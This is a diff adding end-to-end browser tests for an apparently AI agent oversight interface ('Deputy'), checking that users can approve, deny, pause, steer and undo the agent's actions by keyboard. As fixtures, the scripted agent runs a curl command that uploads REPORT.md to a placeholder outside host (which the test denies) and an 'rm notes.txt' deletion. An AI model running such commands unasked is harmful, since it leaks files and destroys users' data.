@@ -1,0 +1,120 @@
+/** A task from the first word to undo, by keyboard alone. */
+import { existsSync } from "node:fs";
+import { join } from "node:path";
+import { ask, calls, expect, say, shell, test, write } from "./world";
+
+const STORY = {
+  by_conversation: true,
+  turns: [
+    calls("First I look at what is there.", shell("ls")),
+    calls("I write the report now.", write("REPORT.md", "# Report\n\nTwo notes.\n")),
+    calls("I also send it somewhere.", shell("curl -fsS https://example.org/upload -d @REPORT.md")),
+    ask("Shall I keep the notes?"),
+    say("Done. **REPORT.md** is written."),
+  ],
+};
+
+test("a task is assigned, watched, answered and undone by keyboard", async ({ page, world }) => {
+  world.write("notes.txt", "one\n");
+  await world.start(STORY);
+  await world.open(page);
+
+  await expect(page.getByRole("heading", { name: "What shall Deputy do?" })).toBeVisible();
+  await page.keyboard.type("Write a report");
+  await page.keyboard.press("Tab");
+  await page.keyboard.type(world.workspace);
+  await page.keyboard.press("Enter");
+
+  const timeline = page.getByRole("region", { name: "Timeline" });
+  await expect(timeline.getByText("First I look at what is there.")).toBeVisible();
+  const card = page.getByRole("article", { name: /Write REPORT.md/ });
+  await expect(card.getByText("Low risk")).toBeVisible();
+  await expect(card.getByText("# Report")).toBeVisible();
+  await page.locator("#page").focus();
+  await expect(async () => {
+    await page.keyboard.press("Enter");
+    await expect(card).toBeHidden({ timeout: 300 });
+  }).toPass();
+  expect(world.read("REPORT.md")).toContain("Two notes.");
+
+  const risky = page.getByRole("article", { name: /curl/ });
+  await expect(risky.getByText("High risk")).toBeVisible();
+  await expect(risky.getByText("It may use the network.")).toBeVisible();
+  // A short press is not enough for what cannot be taken back.
+  await page.keyboard.press("Enter");
+  await expect(risky.getByRole("button", { name: "Hold to approve" })).toBeVisible();
+  await expect(async () => {
+    await page.keyboard.press("d");
+    await expect(page.getByPlaceholder("Why not? Deputy reads it")).toBeFocused({ timeout: 300 });
+  }).toPass();
+  await page.keyboard.type("nothing leaves this machine");
+  await page.keyboard.press("Enter");
+  await expect(risky).toBeHidden();
+  await expect(timeline.getByText("nothing leaves this machine")).toBeVisible();
+
+  const question = page.getByRole("article", { name: "Question" });
+  await expect(question.getByText("Shall I keep the notes?")).toBeVisible();
+  await question.getByRole("textbox").focus();
+  await page.keyboard.type("yes");
+  await page.keyboard.press("Enter");
+  await expect(timeline.getByText("REPORT.md is written.")).toBeVisible();
+
+  const before = await timeline.textContent();
+  await page.reload();
+  await expect(timeline.getByText("REPORT.md is written.")).toBeVisible();
+  expect(await timeline.textContent()).toBe(before);
+
+  await page.keyboard.press("z");
+  const dialog = page.getByRole("dialog", { name: "Undo changes" });
+  await expect(dialog.getByText("1 change would be taken back:")).toBeVisible();
+  await dialog.getByRole("button", { name: "Take back" }).focus();
+  await page.keyboard.press("Enter");
+  await expect(dialog.getByText("1 change taken back")).toBeVisible();
+  expect(existsSync(join(world.workspace, "REPORT.md"))).toBe(false);
+  await page.keyboard.press("Escape");
+  await expect(dialog).toBeHidden();
+  await expect(timeline.getByText("1 change taken back")).toBeVisible();
+});
+
+test("what is of high risk runs once its button was held", async ({ page, world }) => {
+  await world.start({
+    turns: [calls("", shell("rm notes.txt && touch gone")), say("Gone.")],
+    by_conversation: true,
+  });
+  world.write("notes.txt", "one\n");
+  const task = world.task("Remove the notes");
+  await world.open(page, `#/tasks/${task}`);
+  const card = page.getByRole("article", { name: /rm/ });
+  await expect(card).toBeVisible();
+  const hold = card.getByRole("button", { name: "Hold to approve" });
+  if (await hold.isVisible()) {
+    await hold.hover();
+    await page.mouse.down();
+    await expect(card).toBeHidden();
+    await page.mouse.up();
+  } else {
+    await card.getByRole("button", { name: "Run it" }).click();
+  }
+  await expect(page.getByText("Gone.")).toBeVisible();
+  expect(existsSync(join(world.workspace, "gone"))).toBe(true);
+});
+
+test("a running task is paused, steered, resumed and stopped", async ({ page, world }) => {
+  // biome-ignore lint/suspicious/noThenProperty: the script calls its last words so
+  const steps = { tool: "shell", arguments: { command: "echo step {n}" }, count: 5000, then: "done" };
+  await world.start({ steps });
+  const task = world.task("Count for a long time");
+  await world.open(page, `#/tasks/${task}`);
+  await expect(page.getByText("echo step 3", { exact: true })).toBeVisible();
+  await page.keyboard.press("p");
+  await expect(page.getByRole("button", { name: "Resume" })).toBeVisible();
+  await page.keyboard.press("s");
+  await page.keyboard.type("count faster");
+  await page.keyboard.press("Enter");
+  await expect(page.getByText("You added")).toBeVisible();
+  await page.keyboard.press("Escape");
+  await page.keyboard.press("p");
+  await expect(page.getByRole("button", { name: "Pause" })).toBeVisible();
+  await page.keyboard.press("x");
+  await expect(page.getByText("Stopped by you").first()).toBeVisible();
+});
